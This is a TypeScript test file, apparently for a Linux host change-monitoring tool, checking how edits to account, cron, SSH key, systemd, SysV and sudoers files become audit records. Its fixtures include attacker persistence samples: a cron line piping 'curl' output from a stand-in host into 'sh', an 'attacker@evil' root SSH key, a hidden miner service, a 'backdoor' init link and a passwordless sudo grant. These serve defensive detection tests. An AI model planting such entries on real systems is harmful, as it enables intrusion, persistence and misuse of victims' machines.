// Change records from before/after states: accounts and groups per entry from passwd/group/shadow (never a hash),
// sudoers, systemd units and their enablement, SysV links; every record validates against the schema.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID, createHash } from 'node:crypto';
import { checkEvent } from '@vigil/schema';
import type { UserNames } from '../internal/user-names.js';
import type { FileState } from './file-state.js';
import { recordsFor, renderShadow, type RecordContext } from './records.js';
import type { WatchPoint } from './watch-points.js';

const names: UserNames = { user: (uid) => (String(uid) === '0' ? 'root' : undefined), group: (gid) => (String(gid) === '0' ? 'root' : undefined) };
const context: RecordContext = { limits: { contentLimit: 8192, diffLimit: 16384 }, names, privileged: (user) => user === 'alice' };
const sha = (text: string) => createHash('sha256').update(text).digest('hex');
const state = (text: string, extra: Partial<FileState> = {}): FileState => ({ kind: 'file', statKey: randomUUID(), size: text.length, mode: 0o644, uid: 0, gid: 0, mtimeMs: 1_790_000_000_000, sha256: sha(text), text, ...extra });
const valid = (event: object) => {
  const check = checkEvent({ ...event, 'event.id': randomUUID(), 'event.sequence': 1, 'host.id': 'h' }, 'event');
  assert.deepEqual(check.problems, [], JSON.stringify(event));
};
const accounts: WatchPoint = { dir: '/etc', names: new Set(['passwd', 'group', 'shadow']), handler: 'accounts' };

test('passwd: a new account is user_created with its line as the diff; a removed one user_deleted; a changed shell user_modified', () => {
  const before = 'root:x:0:0:root:/root:/bin/bash\nold:x:1002:1002::/home/old:/bin/sh\n';
  const after = 'root:x:0:0:root:/root:/bin/zsh\nalice:x:1001:1001:Alice:/home/alice:/bin/bash\n';
  const events = recordsFor({ path: '/etc/passwd', point: accounts, before: state(before), after: state(after), fields: ['content'] }, context) as unknown as Record<string, unknown>[];
  const byAction = new Map(events.map((e) => [`${e['event.action']}:${e['user.target.name']}`, e]));
  const created = byAction.get('user_created:alice')!;
  assert.equal(created['user.target.id'], '1001');
  assert.equal(created['user.target.home'], '/home/alice');
  assert.equal(created['user.target.privileged'], true, 'alice is in a privileged group');
  assert.equal(created['change.diff'], '--- a/etc/passwd\n+++ b/etc/passwd\n@@ -0,0 +1 @@\n+alice:x:1001:1001:Alice:/home/alice:/bin/bash\n');
  assert.equal(created['change.after_sha256'], sha(after));
  assert.equal(created['file.path'], '/etc/passwd');
  assert.ok(byAction.has('user_deleted:old'));
  assert.deepEqual(byAction.get('user_modified:root')!['change.fields'], ['shell']);
  assert.equal(events.length, 3);
  events.forEach(valid);
});

test('group: created, member added to a privileged group, member removed, gid changed', () => {
  const events = recordsFor(
    { path: '/etc/group', point: accounts, before: state('sudo:x:27:bob\nstaff:x:50:\n'), after: state('sudo:x:27:alice\nstaff:x:51:\nalice:x:1001:\n'), fields: ['content'] },
    context,
  ) as unknown as Record<string, unknown>[];
  const summary = events.map((e) => `${e['event.action']} ${e['group.target.name']} ${e['user.target.name'] ?? ''}`.trim()).sort();
  assert.deepEqual(summary, ['group_created alice', 'group_member_added sudo alice', 'group_member_removed sudo bob', 'group_modified staff']);
  assert.equal(events.find((e) => e['event.action'] === 'group_member_added')!['user.target.privileged'], true);
  events.forEach(valid);
});

test('shadow: lock, unlock with a new password, expiry; new accounts only from passwd; no hash or digest in any record', () => {
  const render = (text: string) => renderShadow(Buffer.from(text));
  const before = render('alice:$y$j9T$salt$AAAAhashAAAA:20400:0:99999:7:::\nbob:!:20400:0:99999:7:::\ncarol:$6$s$CCCC:20000:0:99999:7:::\n');
  const after = render('alice:!$y$j9T$salt$AAAAhashAAAA:20400:0:99999:7:::\nbob:$6$new$BBBBhashBBBB:20401:0:99999:7:::\ncarol:$6$s$CCCC:20000:0:99999:7::20500:\ndave:!:20401:0:99999:7:::\n');
  assert.ok(!before.includes('AAAAhash') && !after.includes('BBBBhash'), 'the kept text has no hash');
  const events = recordsFor({ path: '/etc/shadow', point: accounts, before: state(before), after: state(after), fields: ['content'] }, context) as unknown as Record<string, unknown>[];
  const summary = events.map((e) => `${e['event.action']} ${e['user.target.name']}`).sort();
  assert.deepEqual(summary, ['password_changed bob', 'user_disabled alice', 'user_enabled bob', 'user_modified carol']);
  const text = JSON.stringify(events);
  for (const secret of ['AAAAhash', 'BBBBhash', 'CCCC', '$y$', '$6$']) assert.ok(!text.includes(secret), `no ${secret} in records`);
  for (const line of after.split('\n')) assert.ok(!text.includes(line.split(':')[4]!), 'no digest in records');
  assert.match(String(events.find((e) => e['event.action'] === 'user_modified')!['change.after']), /expires 2026-02-16/);
  events.forEach(valid);
});

test('cron, authorized_keys and profile entries are autostart records with the added lines as the command', () => {
  const cron: WatchPoint = { dir: '/var/spool/cron/crontabs', handler: 'autostart', location: 'cron', userFromName: true };
  const [created] = recordsFor({ path: '/var/spool/cron/crontabs/alice', point: cron, after: state('# m h dom mon dow command\n*/5 * * * * curl -s http://x | sh\n'), fields: [] }, context) as unknown as Record<string, unknown>[];
  assert.equal(created!['event.action'], 'created');
  assert.equal(created!['autostart.user'], 'alice');
  assert.equal(created!['autostart.command'], '*/5 * * * * curl -s http://x | sh');
  valid(created!);
  const keys: WatchPoint = { dir: '/root/.ssh', names: new Set(['authorized_keys']), handler: 'autostart', location: 'authorized_keys', user: 'root' };
  const [modified] = recordsFor({ path: '/root/.ssh/authorized_keys', point: keys, before: state('ssh-ed25519 AAAA old\n'), after: state('ssh-ed25519 AAAA old\nssh-rsa BBBB attacker@evil\n'), fields: ['content'] }, context) as unknown as Record<string, unknown>[];
  assert.equal(modified!['event.action'], 'modified');
  assert.equal(modified!['autostart.command'], 'ssh-rsa BBBB attacker@evil');
  assert.match(String(modified!['change.diff']), /\n\+ssh-rsa BBBB attacker@evil\n$/);
  assert.equal(modified!['change.before_sha256'], sha('ssh-ed25519 AAAA old\n'));
  valid(modified!);
  const [deleted] = recordsFor({ path: '/root/.ssh/authorized_keys', point: keys, before: state('x\n'), fields: [] }, context) as unknown as Record<string, unknown>[];
  assert.equal(deleted!['event.action'], 'deleted');
  assert.equal(deleted!['change.before'], 'x\n');
  assert.equal(deleted!['file.hash.sha256'], undefined, 'no after hash for a deleted file');
  valid(deleted!);
});

test('a mode change alone says so, with the previous mode', () => {
  const point: WatchPoint = { dir: '/etc/cron.d', handler: 'autostart', location: 'cron' };
  const [event] = recordsFor({ path: '/etc/cron.d/x', point, before: state('a\n'), after: state('a\n', { mode: 0o777 }), fields: ['mode'] }, context) as unknown as Record<string, unknown>[];
  assert.deepEqual(event!['change.fields'], ['mode']);
  assert.equal(event!['file.previous_mode'], '0644');
  assert.equal(event!['file.mode'], '0777');
  assert.equal(event!['change.diff'], undefined, 'same content: no diff');
  valid(event!);
});

test('systemd: a new unit is a service and an autostart record; a wants link enables it; a /dev/null link masks', () => {
  const units: WatchPoint = { dir: '/etc/systemd/system', handler: 'systemd_unit' };
  const unit = '[Service]\nExecStart=/tmp/.x/miner --quiet\nUser=nobody\n[Install]\nWantedBy=multi-user.target\n';
  const events = recordsFor({ path: '/etc/systemd/system/miner.service', point: units, after: state(unit), fields: [] }, context) as unknown as Record<string, unknown>[];
  assert.deepEqual(events.map((e) => `${e['event.category']}:${e['event.action']}`), ['service:created', 'autostart:created']);
  assert.equal(events[0]!['service.executable'], '/tmp/.x/miner');
  assert.equal(events[0]!['service.account'], 'nobody');
  assert.equal(events[1]!['autostart.location'], 'systemd_unit');
  assert.equal(events[1]!['autostart.command'], '/tmp/.x/miner');
  events.forEach(valid);
  const wants: WatchPoint = { dir: '/etc/systemd/system/multi-user.target.wants', handler: 'systemd_wants', wantedBy: 'multi-user.target' };
  const [enabled] = recordsFor({ path: '/etc/systemd/system/multi-user.target.wants/miner.service', point: wants, after: { ...state(''), kind: 'symlink', target: '/etc/systemd/system/miner.service' }, fields: [] }, context) as unknown as Record<string, unknown>[];
  assert.equal(enabled!['event.action'], 'enabled');
  assert.equal(enabled!['service.name'], 'miner.service');
  assert.equal(enabled!['service.unit_path'], '/etc/systemd/system/miner.service');
  valid(enabled!);
  const [disabled] = recordsFor({ path: '/etc/systemd/system/multi-user.target.wants/miner.service', point: wants, before: { ...state(''), kind: 'symlink', target: '/x' }, fields: [] }, context) as unknown as Record<string, unknown>[];
  assert.equal(disabled!['event.action'], 'disabled');
  const [masked] = recordsFor({ path: '/etc/systemd/system/cups.service', point: units, after: { ...state(''), kind: 'symlink', target: '/dev/null', sha256: undefined, text: undefined }, fields: [] }, context) as unknown as Record<string, unknown>[];
  assert.equal(masked!['service.start_type'], 'masked');
  valid(masked!);
});

test('SysV: an S link in rc2.d enables the script; K links are not records', () => {
  const rc: WatchPoint = { dir: '/etc/rc2.d', handler: 'sysv_link' };
  const [enabled] = recordsFor({ path: '/etc/rc2.d/S01backdoor', point: rc, after: { ...state(''), kind: 'symlink', target: '../init.d/backdoor' }, fields: [] }, context) as unknown as Record<string, unknown>[];
  assert.equal(enabled!['event.action'], 'enabled');
  assert.equal(enabled!['service.name'], 'backdoor');
  assert.equal(enabled!['service.type'], 'sysv');
  valid(enabled!);
  assert.deepEqual(recordsFor({ path: '/etc/rc2.d/K01backdoor', point: rc, after: { ...state(''), kind: 'symlink', target: '../init.d/backdoor' }, fields: [] }, context), []);
});

test('sudoers: any change of a sudoers file is sudoers_modified with the diff', () => {
  const point: WatchPoint = { dir: '/etc/sudoers.d', handler: 'sudoers' };
  const [event] = recordsFor({ path: '/etc/sudoers.d/90-x', point, after: state('alice ALL=(ALL) NOPASSWD: ALL\n'), fields: [] }, context) as unknown as Record<string, unknown>[];
  assert.equal(event!['event.category'], 'iam');
  assert.equal(event!['event.action'], 'sudoers_modified');
  assert.deepEqual(event!['change.fields'], ['created']);
  assert.match(String(event!['change.diff']), /\+alice ALL=\(ALL\) NOPASSWD: ALL/);
  valid(event!);
});

test('long content and diffs are cut at the limits and marked truncated', () => {
  const point: WatchPoint = { dir: '/etc/profile.d', handler: 'autostart', location: 'profile' };
  const big = Array.from({ length: 2000 }, (_, i) => `export V${i}=${i}`).join('\n') + '\n';
  const [event] = recordsFor({ path: '/etc/profile.d/big.sh', point, after: state(big), fields: [] }, { ...context, limits: { contentLimit: 1000, diffLimit: 2000 } }) as unknown as Record<string, unknown>[];
  assert.equal(event!['change.truncated'], true);
  assert.ok(String(event!['change.diff']).length < 2100);
  assert.ok(String(event!['change.after']).length < 1100);
  valid(event!);
});
